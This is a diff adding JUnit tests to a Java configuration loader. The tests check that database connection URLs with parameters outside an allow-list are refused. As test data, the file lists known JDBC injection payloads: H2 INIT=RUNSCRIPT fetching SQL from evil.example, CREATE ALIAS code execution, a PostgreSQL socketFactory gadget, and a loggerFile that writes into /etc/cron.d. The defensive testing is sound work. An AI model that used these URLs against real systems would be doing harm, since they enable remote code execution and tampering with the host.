@@ -143,6 +143,40 @@ class ConfigLoaderTest {
         assertEquals("storage.maxInstanceBytes", refused("storage:\n  maxInstanceBytes: 1000\n").key());
     }
 
+    /** A JDBC URL is code: only known parameters reach a driver (H2's INIT= runs any SQL at connect). */
+    @Test
+    void storeUrlsWithParametersOutsideTheAllowListAreRefused() throws Exception {
+        for (String url : List.of(
+                "jdbc:h2:file:/tmp/x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
+                "jdbc:h2:file:/tmp/x;WRITE_DELAY=0;init=CREATE ALIAS X AS 'void x(){}'",
+                "jdbc:h2:file:/tmp/x;AUTO_SERVER=TRUE",
+                "jdbc:h2:tcp://evil.example/x",
+                "postgresql://db/varde?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
+                "jdbc:postgresql://db/varde?user=gw&loggerFile=/etc/cron.d/x",
+                "jdbc:postgresql://db/varde?sslfactory=x.Y",
+                "jdbc:postgresql://db/varde?sslmode=sometimes")) {
+            ConfigException e = refused("store:\n  url: \"" + url + "\"\n");
+            assertEquals("store.url", e.key(), url);
+            assertFalse(e.getMessage().contains("evil") || e.getMessage().contains("cron"), "no echo: " + e.getMessage());
+        }
+        assertTrue(ConfigLoader.parse("store:\n  url: \"jdbc:h2:file:/tmp/x;WRITE_DELAY=0;CACHE_SIZE=8192\"\n", dir)
+                .store().url().endsWith("CACHE_SIZE=8192"));
+        assertEquals("jdbc:postgresql://db/varde?user=gw&sslmode=verify-full&sslrootcert=/etc/varde/ca.pem",
+                ConfigLoader.parse("store:\n  url: \"postgresql://db/varde?user=gw&sslmode=verify-full"
+                        + "&sslrootcert=/etc/varde/ca.pem\"\n", dir).store().url());
+    }
+
+    @Test
+    void storeSslmodeTakesLibpqValuesForPostgresOnly() throws Exception {
+        assertEquals("verify-full", ConfigLoader.parse("store:\n  url: postgresql://db/varde\n  sslmode: verify-full\n",
+                dir).store().sslModeOrNull());
+        assertNull(ConfigLoader.parse("", dir).store().sslModeOrNull(), "the driver's default unless set");
+        assertEquals("store.sslmode", refused("store:\n  url: postgresql://db/varde\n  sslmode: strict\n").key());
+        assertEquals("store.sslmode", refused("store:\n  sslmode: require\n").key(), "not for H2");
+        assertEquals("store.sslmode",
+                refused("store:\n  url: postgresql://db/v?sslmode=require\n  sslmode: disable\n").key());
+    }
+
     @Test
     void unknownKeysAreRefusedByName() {
         assertEquals("dicom.aeTitel: unknown key", refused("dicom:\n  aeTitel: VARDE\n").getMessage());
